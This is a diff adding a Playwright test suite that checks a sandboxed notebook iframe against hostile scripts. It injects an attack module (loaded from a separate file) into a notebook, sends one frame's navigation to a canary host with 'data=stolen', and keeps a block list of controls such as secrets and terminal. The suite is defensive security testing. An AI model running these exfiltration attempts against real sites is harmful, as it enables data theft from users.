@@ -1,0 +1,167 @@
+// The sealed frame under attack from inside, as a notebook's own script can attack it; and what is in sight of a person.
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import type { FrameLocator, Page } from '@playwright/test'
+import { type Canary, startCanary } from './canary.ts'
+import { expect, frameOf, notebookOf, openNotebook, output, runAll, test } from './fixtures.ts'
+
+const ATTACK = readFileSync(join(import.meta.dirname, 'attack.js'), 'utf8')
+let canary: Canary
+
+test.beforeAll(async () => {
+  canary = await startCanary()
+})
+test.afterAll(() => canary.stop())
+
+function hostile(shell: string): string {
+  const module = ATTACK.replaceAll('CANARY', canary.origin).replaceAll('SHELL', shell).replaceAll('UDP', String(canary.udp))
+  return notebookOf(
+    `import anywidget\nimport base64\nclass Attack(anywidget.AnyWidget):\n    _esm = base64.b64decode("${Buffer.from(module).toString('base64')}").decode()\nAttack()`,
+  )
+}
+
+const iframe = (page: Page, name: string) => page.locator(`iframe[title="Notebook ${name}"]`)
+const inside = async (page: Page, name: string) => {
+  const frame = await (await iframe(page, name).elementHandle())?.contentFrame()
+  if (!frame) throw new Error(`no frame for ${name}`)
+  return frame
+}
+
+test('nothing a notebook’s script tries leaves the frame', async ({ person, client, stack }, info) => {
+  test.slow() // forty attempts, some of which only silence answers
+  await (await client('Colleague')).notebook('hostile', hostile(stack.origin))
+  const page = await person('Colleague')
+  let downloads = 0
+  page.on('download', () => {
+    downloads += 1
+  })
+  const frame = await openNotebook(page, 'hostile')
+  await runAll(frame)
+  const report = frame.locator('pre.attack')
+  await expect(report).toBeAttached({ timeout: 120_000 })
+  const results: Record<string, string> = JSON.parse((await report.textContent()) ?? '')
+  expect(Object.keys(results).length).toBeGreaterThan(35)
+  for (const [attempt, result] of Object.entries(results)) expect.soft(result, attempt).toMatch(/^(refused|silence)/)
+  expect(canary.heard).toEqual([])
+  expect(page.context().pages()).toHaveLength(1)
+  expect(new URL(page.url()).origin).toBe(stack.origin)
+  expect(downloads).toBe(0)
+  await expect(iframe(page, 'hostile')).toHaveCount(1) // forged handshakes did nothing
+  const open = canary.datagrams.reduce((sum, { length }) => sum + length, 0)
+  const carried = canary.datagrams.some((datagram) => datagram.includes('stolen'))
+  info.annotations.push({
+    type: 'WebRTC',
+    description: `${canary.datagrams.length} datagrams, ${open} bytes, data carried: ${carried}`,
+  })
+})
+
+test('a second handshake ends the frame', async ({ person, client }) => {
+  await (await client('Colleague')).notebook('handshake', notebookOf('"here"'))
+  const page = await person('Colleague')
+  await openNotebook(page, 'handshake')
+  const first = await iframe(page, 'handshake').getAttribute('src')
+  await (await inside(page, 'handshake')).evaluate(() => parent.postMessage({ type: 'scrydon-frame-ready' }, '*'))
+  await expect(page.locator(`iframe[src="${first}"]`)).toHaveCount(0)
+})
+
+test('a frame that leaves is stopped and ended: data in an address reaches nobody', async ({ person, client }) => {
+  await (await client('Colleague')).notebook('leaving', notebookOf('"here"'))
+  const page = await person('Colleague')
+  await openNotebook(page, 'leaving')
+  const first = await iframe(page, 'leaving').getAttribute('src')
+  const before = canary.heard.length
+  await (await inside(page, 'leaving')).evaluate((url) => {
+    location.href = url
+  }, `${canary.origin}/left?data=stolen`)
+  await expect(page.locator(`iframe[src="${first}"]`)).toHaveCount(0)
+  expect(canary.heard.length).toBe(before)
+})
+
+test('frames are strangers to each other and to the shell', async ({ person, client }) => {
+  const colleague = await client('Colleague')
+  await colleague.notebook('one', notebookOf('"first"'))
+  await colleague.notebook('two', notebookOf('"second"'))
+  const page = await person('Colleague')
+  await openNotebook(page, 'one')
+  await page.goBack()
+  await openNotebook(page, 'two')
+  const [one, two] = [await inside(page, 'one'), await inside(page, 'two')]
+  expect(await one.evaluate(() => location.host)).not.toBe(await two.evaluate(() => location.host))
+  expect(await two.evaluate(() => [document.cookie, localStorage.length, window.isSecureContext])).toEqual([
+    '',
+    expect.any(Number),
+    true,
+  ])
+  const reach = (index: number) => {
+    try {
+      return parent.frames[index]?.document.title ?? 'none'
+    } catch (error) {
+      return (error as Error).name
+    }
+  }
+  const seen = await Promise.all([0, 1, 2].map((index) => two.evaluate(reach, index)))
+  expect(seen.filter((name) => name !== 'SecurityError' && name !== 'none')).toHaveLength(1) // itself
+  await expect(iframe(page, 'two')).not.toHaveAttribute('aria-hidden', 'true')
+  await expect(iframe(page, 'one')).toHaveAttribute('aria-hidden', 'true')
+  expect(await iframe(page, 'one').evaluate((element: HTMLIFrameElement) => element.inert)).toBe(true)
+  const sandbox = await iframe(page, 'two').getAttribute('sandbox')
+  expect(sandbox?.split(' ').sort()).toEqual(['allow-forms', 'allow-same-origin', 'allow-scripts'])
+})
+
+const REFUSED =
+  /export|download|share|package|secret|terminal|restart|shut ?down|copilot|\bai\b|agent|duplicate notebook|tutorial|files?$/i
+const ALLOWED = /^(save file|hide all.*|show all.*)$/i
+
+async function labels(frame: FrameLocator, selector: string): Promise<string[]> {
+  const texts = await frame.locator(selector).filter({ visible: true }).allTextContents()
+  return texts
+    .map((text) => text.trim())
+    .filter((text) => text !== '' && !ALLOWED.test(text.replace(/(Ctrl|Mod|Shift|Alt).*$/, '')))
+}
+
+test('no control in sight ends in a refusal', async ({ person, client }) => {
+  await (await client('Colleague')).notebook(
+    'controls',
+    notebookOf('import pandas as pd\npd.DataFrame({"a": [1, 2]})', 'import missing_module_xyz'),
+  )
+  const page = await person('Colleague')
+  const refusals: string[] = []
+  page.on('console', (message) => {
+    if (/Failed to handle request|403/.test(message.text())) refusals.push(message.text())
+  })
+  const frame = await openNotebook(page, 'controls')
+  await runAll(frame)
+  await expect(output(frame, 0).locator('table')).toBeVisible({ timeout: 30_000 })
+  await expect(frame.getByTestId('export-button').filter({ visible: true })).toHaveCount(0)
+  await expect(frame.getByRole('button', { name: 'Install' }).filter({ visible: true })).toHaveCount(0)
+  const menu = frame.getByTestId('notebook-menu-dropdown')
+  await menu.click()
+  await expect(frame.getByRole('menuitem').filter({ visible: true }).first()).toBeVisible()
+  for (const label of await labels(frame, '[role="menuitem"]')) expect.soft(label).not.toMatch(REFUSED)
+  await page.keyboard.press('Escape')
+  await frame.getByTestId('command-palette-button').click()
+  await expect(frame.locator('[cmdk-item]').first()).toBeVisible()
+  const commands = await labels(frame, '[cmdk-item]')
+  expect(commands.length).toBeGreaterThan(20)
+  for (const label of commands) expect.soft(label).not.toMatch(REFUSED)
+  await page.keyboard.press('Escape')
+  for (const key of ['files', 'packages', 'ai', 'secrets', 'terminal'])
+    await expect(frame.locator(`[data-key="${key}"]`).filter({ visible: true })).toHaveCount(0)
+  expect(refusals).toEqual([])
+})
+
+test('the shell’s keys and links work from inside the frame', async ({ person, client }) => {
+  await (await client('Colleague')).notebook('keys', notebookOf('import marimo as mo\nmo.md("[away](https://example.org/)")'))
+  const page = await person('Colleague')
+  const frame = await openNotebook(page, 'keys')
+  await runAll(frame)
+  await frame.locator('.cm-content').first().click()
+  await page.keyboard.press('Control+k')
+  await expect(page.getByRole('dialog').first()).toBeVisible()
+  await page.keyboard.press('Escape')
+  const address = page.url()
+  await frame.getByRole('link', { name: 'away' }).click()
+  await expect(page.getByRole('alertdialog').or(page.getByRole('dialog')).first()).toContainText('example.org')
+  expect(page.url()).toBe(address)
+  expect(frameOf(page, 'keys')).toBeTruthy()
+})
